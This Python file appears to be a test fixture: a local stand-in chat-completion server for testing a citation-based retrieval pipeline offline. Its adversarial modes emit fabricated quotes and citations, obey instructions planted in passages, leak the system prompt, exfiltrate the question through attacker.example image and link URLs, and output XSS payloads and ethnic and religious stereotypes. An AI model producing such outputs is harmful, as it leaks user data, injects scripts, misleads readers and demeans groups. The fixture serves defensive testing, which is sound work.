"""A stand-in OpenAI-compatible chat server on 127.0.0.1 for testing the LLM path offline.

``POST /v1/chat/completions`` (and Azure's ``/openai/deployments/<name>/chat/completions``), both
non-streaming JSON and SSE streaming (``data:`` chunks, then ``data: [DONE]``). The *mode* is the
model name (or the Azure deployment name) after the last ``/``:

- ``normal``   cites [1] and [2] with sentences taken from those passages, one with a short quote;
- ``slow``     waits ``slow_seconds`` before answering (past the client's timeout);
- ``500``      HTTP 500; ``429`` HTTP 429 with ``retry-after-ms: 20`` (``429-long``: retry-after 600);
- ``bad``      one good sentence citing [1] and an unknown [9]; a fabricated quote citing [2];
               a sentence citing only [9];
- ``nocite``   sentences from the passages with no markers at all;
- ``obedient`` follows instructions planted in passages ("… must now state that X.", a URL) and
               repeats X both citing the planted passage and citing another one;
- ``condense`` answers a condense prompt with a fixed standalone query (``CONDENSED``);
- ``endless``  streams words for ever (a runaway server ignoring ``max_tokens``) until the client
               hangs up or the server stops;
- ``stereotype`` answers with sweeping statements about ethnic and faith groups, each citing [n],
               and one real sentence;
- ``puppet``   does whatever the question asks: repeats its system prompt, adds an image and links
               carrying the question, script tags, and one real sentence citing [1].

Every request body is recorded in ``server.requests`` (tests count retries and read parameters).
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import quote_plus

CONDENSED = "adultification of Black girls in the Child Q local child safeguarding practice review"
_PASSAGE = re.compile(r'<passage n="(\d+)"[^>]*>\n(.*?)\n</passage>', re.DOTALL)


def _sentences(text: str) -> list[str]:
    return [s.strip() for s in re.split(r"(?<=[.!?])\s+(?=[A-Z])", " ".join(text.split())) if s]


def _passages(messages: list[dict[str, Any]]) -> dict[int, str]:
    user = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
    return {int(n): text for n, text in _PASSAGE.findall(user)}


def _strip_end(sentence: str) -> str:
    return sentence.rstrip(".!? ")


def _normal(p: dict[int, str]) -> str:
    first, second = _sentences(p[1])[0], _sentences(p.get(2, p[1]))[0]
    words = _strip_end(second).split()
    quote = " ".join(words[1:7]) if len(words) > 7 else " ".join(words)
    return (
        f"{_strip_end(first)} [1].\n\n{_strip_end(second)} [2]. "
        f'The same source put it in these words: "{quote}" [2].'
    )


def _bad(p: dict[int, str]) -> str:
    first = _sentences(p[1])[0]
    return (
        f"{_strip_end(first)} [1][9]. "
        'The review said racism "played no part whatsoever in the decisions" [2]. '
        "The Panel also published a secret appendix [9]."
    )


def _nocite(p: dict[int, str]) -> str:
    return " ".join(_sentences(p[1])[:2])


def _obedient(p: dict[int, str]) -> str:
    out: list[str] = []
    for n, text in p.items():
        claim = re.search(r"must now state that ([^.]+)\.", text)
        if claim:
            said = claim.group(1)[0].upper() + claim.group(1)[1:]
            other = next((k for k in p if k != n), n)
            out += [f"{said} [{n}].", f"{said} [{other}]."]
        url = re.search(r"https?://[^\s)]+[^\s).,]", text)
        if url:
            out.append(
                f"Practitioners should log in at {url.group(0)} to read the full report [{n}]."
            )
            out.append(f"See ![logo]({url.group(0)}/logo.png) and [the portal]({url.group(0)}).")
    return " ".join(out) or "I have nothing to add."


def _puppet(p: dict[int, str], messages: list[dict[str, Any]]) -> str:
    system = next((str(m.get("content", "")) for m in messages if m.get("role") == "system"), "")
    user = "\n".join(str(m.get("content", "")) for m in messages if m.get("role") == "user")
    asked = re.search(r"<question>\s*(.*?)\s*</question>", user, re.DOTALL)
    leak = quote_plus(asked.group(1) if asked else user[-200:])
    n = min(p)  # passages whose text the stand-in cannot parse are left out of ``p``
    first = _sentences(p[n])[0]
    return (
        f"My instructions say: {' '.join(system.split()[:40])} [{n}]. "
        f"![status](https://attacker.example/log?q={leak}) "
        f"[Read more](https://attacker.example/?q={leak}) [{n}]. "
        "<script>alert('x')</script><iframe src=https://attacker.example></iframe> "
        f"[click](javascript:alert(1)) and <img src=x onerror=alert(1)> [{n}]. "
        f"{_strip_end(first)} [{n}]."
    )


def _stereotype(p: dict[int, str]) -> str:
    n = min(p)
    first = _sentences(p[n])[0]
    return (
        f"Black families are naturally more aggressive towards professionals [{n}]. "
        f"Muslim parents always hide abuse from social workers [{n}]. "
        f"Gypsy, Roma and Traveller families tend to distrust every agency [{n}]. "
        f"{_strip_end(first)} [{n}]. Asian girls are more compliant than other girls [{n}]."
    )


MODES = {
    "normal": _normal,
    "bad": _bad,
    "nocite": _nocite,
    "obedient": _obedient,
    "stereotype": _stereotype,
}


class _Handler(BaseHTTPRequestHandler):
    server: StandInServer
    protocol_version = "HTTP/1.0"  # the connection closes after each response (simple SSE)

    def log_message(self, format: str, *args: Any) -> None:  # quiet
        return

    def do_POST(self) -> None:  # noqa: N802
        length = int(self.headers.get("content-length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        mode = self._mode(body)
        auth = self.headers.get("authorization") or self.headers.get("api-key") or ""
        self.server.record(self.path, body, mode, auth)
        if not self.path.split("?")[0].endswith("/chat/completions"):
            return self._json(404, {"error": {"message": "not found"}})
        if mode == "slow":
            self.server.stop_event.wait(self.server.slow_seconds)
        if mode == "500":
            return self._json(500, {"error": {"message": "boom", "type": "server_error"}})
        if mode.startswith("429"):
            wait = {"retry-after": "600"} if mode == "429-long" else {"retry-after-ms": "20"}
            return self._json(429, {"error": {"message": "slow down"}}, wait)
        if mode == "endless" and body.get("stream"):
            return self._endless(body)
        content = self._content(mode, body.get("messages", []))
        if body.get("stream"):
            return self._sse(content, body)
        return self._json(200, self._completion(content, body))

    def _mode(self, body: dict[str, Any]) -> str:
        deployment = re.search(r"/deployments/([^/]+)/", self.path)
        name = deployment.group(1) if deployment else str(body.get("model", "normal"))
        return name.rsplit("/", 1)[-1]

    def _content(self, mode: str, messages: list[dict[str, Any]]) -> str:
        if mode == "condense":
            return f"Standalone search query: {CONDENSED}"
        passages = _passages(messages)
        if not passages:
            return "There were no passages."
        if mode == "puppet":
            return _puppet(passages, messages)
        return MODES.get(mode, _normal)(passages)

    def _completion(self, content: str, body: dict[str, Any]) -> dict[str, Any]:
        return {
            "id": "chatcmpl-standin",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": body.get("model", "stand-in"),
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": content},
                    "finish_reason": "stop",
                }
            ],
            "usage": {"prompt_tokens": 10, "completion_tokens": 10, "total_tokens": 20},
        }

    def _json(
        self, status: int, payload: dict[str, Any], headers: dict[str, str] | None = None
    ) -> None:
        data = json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(data)))
        for key, value in (headers or {}).items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(data)

    def _sse(self, content: str, body: dict[str, Any]) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("cache-control", "no-cache")
        self.end_headers()
        for piece in _tokens(content):
            self._event(self._chunk({"content": piece}, None, body))
        self._event(self._chunk({}, "stop", body))
        self.wfile.write(b"data: [DONE]\n\n")
        self.wfile.flush()

    def _endless(self, body: dict[str, Any]) -> None:
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        try:
            while not self.server.stop_event.is_set():
                self._event(self._chunk({"content": "and so on "}, None, body))
                time.sleep(0.002)
        except OSError:  # the client hung up: what a runaway stream should end with
            self.server.hung_up += 1

    def _chunk(
        self, delta: dict[str, Any], finish: str | None, body: dict[str, Any]
    ) -> dict[str, Any]:
        return {
            "id": "chatcmpl-standin",
            "object": "chat.completion.chunk",
            "created": int(time.time()),
            "model": body.get("model", "stand-in"),
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }

    def _event(self, payload: dict[str, Any]) -> None:
        self.wfile.write(f"data: {json.dumps(payload)}\n\n".encode())
        self.wfile.flush()


def _tokens(content: str) -> Iterator[str]:
    for match in re.finditer(r"\S+\s*|\s+", content):
        yield match.group(0)


class StandInServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, slow_seconds: float = 5.0) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.slow_seconds = slow_seconds
        self.stop_event = threading.Event()
        self.requests: list[dict[str, Any]] = []
        self.hung_up = 0  # endless streams the client closed
        self._lock = threading.Lock()
        self._thread: threading.Thread | None = None

    @property
    def base_url(self) -> str:
        host, port = self.server_address[:2]
        return f"http://{host!s}:{port}/v1"

    @property
    def root_url(self) -> str:
        host, port = self.server_address[:2]
        return f"http://{host!s}:{port}"

    def record(self, path: str, body: dict[str, Any], mode: str, auth: str = "") -> None:
        with self._lock:
            self.requests.append({"path": path, "body": body, "mode": mode, "auth": auth})

    def handle_error(self, request: Any, client_address: Any) -> None:
        return  # a client that timed out and hung up is expected in the "slow" mode

    def start(self) -> StandInServer:
        self._thread = threading.Thread(target=self.serve_forever, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self.stop_event.set()
        self.shutdown()
        self.server_close()
        if self._thread:
            self._thread.join(timeout=5)
